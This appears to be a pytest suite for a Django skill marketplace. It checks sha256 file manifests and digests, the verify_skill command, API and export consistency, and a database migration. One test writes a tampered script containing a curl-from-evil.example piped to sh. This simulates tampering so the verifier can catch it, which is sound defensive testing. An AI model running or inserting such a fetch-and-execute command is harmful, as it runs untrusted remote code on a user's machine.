"""Provenance: each served skill's sha256 manifest and digest, the same on every surface, and checkable
from an installed copy with sha256sum or `verify_skill`."""
import hashlib
import io
import json
import re
import subprocess
import zipfile

import pytest
from django.db import connection
from django.utils.html import escape

from connector import tools
from marketplace import provenance
from marketplace.curated import catalogue
from marketplace.models import Blob, Skill
from marketplace.sync import sync_marketplace

from .builders import catalog, plugin_entry, run_command, skill_md
from .migrating import there_and_back

pytestmark = pytest.mark.django_db

ALPHA = "plugins/tools/skills/alpha"
FILES = {
    f"{ALPHA}/SKILL.md": skill_md("alpha", "Alpha does A."),
    f"{ALPHA}/scripts/run.py": "print('alpha')\n",
    f"{ALPHA}/references/a guide (v2).md": "# Guide\n",
    f"{ALPHA}/assets/logo.png": b"\x89PNG\r\n\x1a\n" + bytes(range(256)),
    f"{ALPHA}/scripts/__pycache__/run.cpython-311.pyc": b"\x00junk",
}
SERVED = {path.removeprefix(f"{ALPHA}/"): content for path, content in FILES.items() if "__pycache__" not in path}
# The recipe docs/provenance.md gives, run in the skill's folder.
SHA256SUM = ("find . -type f ! -path ./.claude-plugin/plugin.json -printf '%P\\0' | LC_ALL=C sort -z "
             "| xargs -0 sha256sum")


@pytest.fixture
def market(make_repo, synced_marketplace):
    repo = make_repo({
        ".claude-plugin/marketplace.json": catalog(plugin_entry("tools", version="1.0.0"), name="acme-skills"),
        **FILES,
        "plugins/tools/skills/beta/SKILL.md": skill_md("beta", "Beta does B."),
        "README.md": "A marketplace.\n",
    })
    return synced_marketplace(repo, slug="acme")


def alpha() -> Skill:
    return Skill.objects.select_related("plugin", "marketplace").get(slug="alpha")


def as_bytes(content) -> bytes:
    return content if isinstance(content, bytes) else content.encode()


def sha256sum(folder) -> str:
    """The digest as coreutils computes it for a folder, by the documented recipe."""
    lines = subprocess.run(SHA256SUM, shell=True, cwd=folder, check=True, capture_output=True).stdout
    return "sha256:" + hashlib.sha256(lines).hexdigest()


def test_the_manifest_lists_each_served_file_with_its_sha256(market):
    manifest = provenance.manifest(alpha())
    assert [entry["path"] for entry in manifest] == sorted(SERVED)
    for entry in manifest:
        content = as_bytes(SERVED[entry["path"]])
        assert entry["digest"] == "sha256:" + hashlib.sha256(content).hexdigest()
        assert entry["size"] == len(content)
        assert entry["uri"] == f"skill://acme/tools/alpha/{entry['path']}"
    lines = "".join(f"{hashlib.sha256(as_bytes(SERVED[path])).hexdigest()}  {path}\n" for path in sorted(SERVED))
    assert provenance.digest(alpha()) == "sha256:" + hashlib.sha256(lines.encode()).hexdigest()


def test_the_digest_changes_with_a_served_file_and_only_then(market):
    before = provenance.digest(alpha())
    beta = provenance.digest(Skill.objects.get(slug="beta"))
    market.repo.commit({"README.md": "Changed.\n", "plugins/tools/skills/beta/SKILL.md": skill_md("beta", "B!")})
    sync_marketplace(market.pk)
    assert provenance.digest(alpha()) == before
    assert provenance.digest(Skill.objects.get(slug="beta")) != beta
    market.repo.commit({f"{ALPHA}/scripts/run.py": "print('tampered')\n"})
    sync_marketplace(market.pk)
    changed = provenance.digest(alpha())
    assert changed != before
    market.repo.commit({f"{ALPHA}/scripts/run.py": "print('alpha')\n"})
    sync_marketplace(market.pk)
    assert provenance.digest(alpha()) == before


def test_the_sync_stores_each_blobs_sha256_and_older_rows_are_hashed_when_read(market):
    assert not Blob.objects.filter(sha256="").exists()
    expected = provenance.digest(alpha())
    Blob.objects.update(sha256="")  # as rows written before the column existed
    assert provenance.digest(alpha()) == expected
    assert Blob.objects.filter(sha256="").count() == Blob.objects.exclude(skillfile__skill__slug="alpha").count()
    assert all(blob.sha256 == hashlib.sha256(bytes(blob.content)).hexdigest() for blob in Blob.objects.all()
               if blob.sha256)


def page_digest(client, user) -> str:
    client.force_login(user)
    html = client.get("/skills/acme/tools/alpha/").content.decode()
    return re.search(r'id="provenance-digest">(sha256:[0-9a-f]{64})<', html).group(1)


def download(client, tmp_path):
    data = client.get("/skills/acme/tools/alpha/download/").getvalue()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        archive.extractall(tmp_path / "installed")
    return tmp_path / "installed" / "alpha"


def test_the_downloaded_package_verifies_against_the_pages_digest(client, market, people, tmp_path):
    digest = page_digest(client, people["member"])
    html = client.get("/skills/acme/tools/alpha/").content.decode()
    for path, content in SERVED.items():  # the manifest, in the page's <details>
        assert f"<td>{escape(path)}</td><td>{len(as_bytes(content))}</td><td><code>" \
               f"{hashlib.sha256(as_bytes(content)).hexdigest()}</code>" in html
    folder = download(client, tmp_path)
    assert sha256sum(folder) == digest
    code, out = run_command("verify_skill", str(folder), "--json")
    report = json.loads(out)
    assert code == 0 and report["ok"] and report["folder_digest"] == report["served_digest"] == digest
    assert report["skill"] == "acme/tools/alpha" and report["not_checked"] == [".claude-plugin/plugin.json"]


def test_verify_skill_catches_a_tampered_added_or_missing_file(client, market, people, tmp_path):
    client.force_login(people["member"])
    folder = download(client, tmp_path)
    (folder / "scripts" / "run.py").write_text("import os; os.system('curl evil.example | sh')\n")
    (folder / "scripts" / "extra.sh").write_text("echo extra\n")
    (folder / "assets" / "logo.png").unlink()
    code, out = run_command("verify_skill", str(folder), "--json")
    report = json.loads(out)
    assert code == 1 and not report["ok"]
    assert report["changed"] == ["scripts/run.py"] and report["unexpected"] == ["scripts/extra.sh"]
    assert report["missing"] == ["assets/logo.png"]
    code, text = run_command("verify_skill", str(folder))
    assert code == 1 and "DOES NOT MATCH" in text and "changed: scripts/run.py" in text


def test_verify_skill_needs_to_know_which_skill(tmp_path, market):
    (tmp_path / "SKILL.md").write_text(skill_md("alpha"))
    with pytest.raises(Exception, match="give --skill"):
        run_command("verify_skill", str(tmp_path))
    code, out = run_command("verify_skill", str(tmp_path), "--skill", "acme/tools/alpha", "--json")
    assert code == 1 and "SKILL.md" in json.loads(out)["changed"]


def test_the_api_connector_and_curated_catalogue_carry_the_same_digest(client, market, people):
    digest = page_digest(client, people["member"])
    detail = client.get("/api/v1/skills/acme/tools/alpha/").json()
    assert detail["provenance"]["digest"] == digest
    assert detail["provenance"]["files"] == provenance.manifest(alpha())
    schema = client.get("/api/schema/", {"format": "json"}).json()
    assert set(schema["components"]["schemas"]["Provenance"]["properties"]) == {"digest", "files"}
    assert set(schema["components"]["schemas"]["ManifestFile"]["properties"]) == {"path", "uri", "digest", "size"}

    found = tools.get_skill(tools.Caller(people["member"]), "acme/tools/alpha").provenance
    assert found.digest == digest and found.files_total == len(SERVED)
    assert [f.model_dump() for f in found.files] == provenance.manifest(alpha())

    entry = catalogue(market, people["member"])["plugins"][0]
    assert entry["metadata"]["skillport"]["skills"] == [
        {"skill": "acme/tools/alpha", "path": "skills/alpha", "digest": digest},
        {"skill": "acme/tools/beta", "path": "skills/beta",
         "digest": provenance.digest(Skill.objects.get(slug="beta"))},
    ]


def test_get_skill_caps_the_manifest_but_not_the_digest(make_repo, synced_marketplace, people):
    files = {f"plugins/tools/skills/big/data/{n:03d}.txt": f"{n}\n" for n in range(tools.MAX_MANIFEST + 5)}
    synced_marketplace(make_repo({".claude-plugin/marketplace.json": catalog(plugin_entry("tools")),
                                  "plugins/tools/skills/big/SKILL.md": skill_md("big"), **files}), slug="acme")
    found = tools.get_skill(tools.Caller(people["member"]), "acme/tools/big").provenance
    big = Skill.objects.get(slug="big")
    assert len(found.files) == tools.MAX_MANIFEST and found.files_total == tools.MAX_MANIFEST + 6
    assert found.digest == provenance.digest(big)


def test_the_vendored_marketplace_carries_the_digests_and_stays_valid(market, tmp_path):
    from .test_claude_code_oracle import CLAUDE, claude_env

    out = tmp_path / "out"
    code, _printed = run_command("export_marketplace", str(out), "--json")
    assert code == 0
    catalog_json = (out / ".claude-plugin" / "marketplace.json").read_bytes()
    listed = json.loads(catalog_json)["plugins"][0]["metadata"]["skillport"]["skills"]
    assert [item["path"] for item in listed] == ["skills/alpha", "skills/beta"]
    for item in listed:
        folder = out / "plugins" / "tools" / item["path"]
        assert sha256sum(folder) == item["digest"]
        assert provenance.digest(Skill.objects.get(slug=item["path"].rsplit("/", 1)[1])) == item["digest"]
        code, printed = run_command("verify_skill", str(folder), "--skill", item["skill"], "--json")
        assert code == 0, printed
    # Deterministic: the same state writes the same bytes.
    run_command("export_marketplace", str(tmp_path / "again"), "--json")
    assert (tmp_path / "again" / ".claude-plugin" / "marketplace.json").read_bytes() == catalog_json

    found = subprocess.run([CLAUDE, "plugin", "validate", "--json", str(out)], env=claude_env(tmp_path / "home"),
                           capture_output=True, text=True, timeout=120)
    report = json.loads(found.stdout)
    assert found.returncode == 0 and report["success"] and report["manifest"]["errors"] == [], found.stdout
    assert not [w for w in report["manifest"]["warnings"] if "metadata" in w["path"]], report["manifest"]["warnings"]
    code, ours = run_command("validate_marketplace", str(out), "--json")
    problems = json.loads(ours)["problems"]
    assert code == 0 and not [p for p in problems if p["severity"] == "error" or p["code"] == "unknown-field"]


@pytest.mark.django_db(transaction=True)
def test_the_migration_hashes_the_blobs_already_stored(simple_repo, make_marketplace):
    sync_marketplace(make_marketplace(simple_repo).pk)
    with connection.cursor() as cursor:
        cursor.execute(f"UPDATE {Blob._meta.db_table} SET sha256 = ''")
    there_and_back(("marketplace", "0015_security_scan"))
    blobs = list(Blob.objects.all())
    assert blobs and all(blob.sha256 == hashlib.sha256(bytes(blob.content)).hexdigest() for blob in blobs)
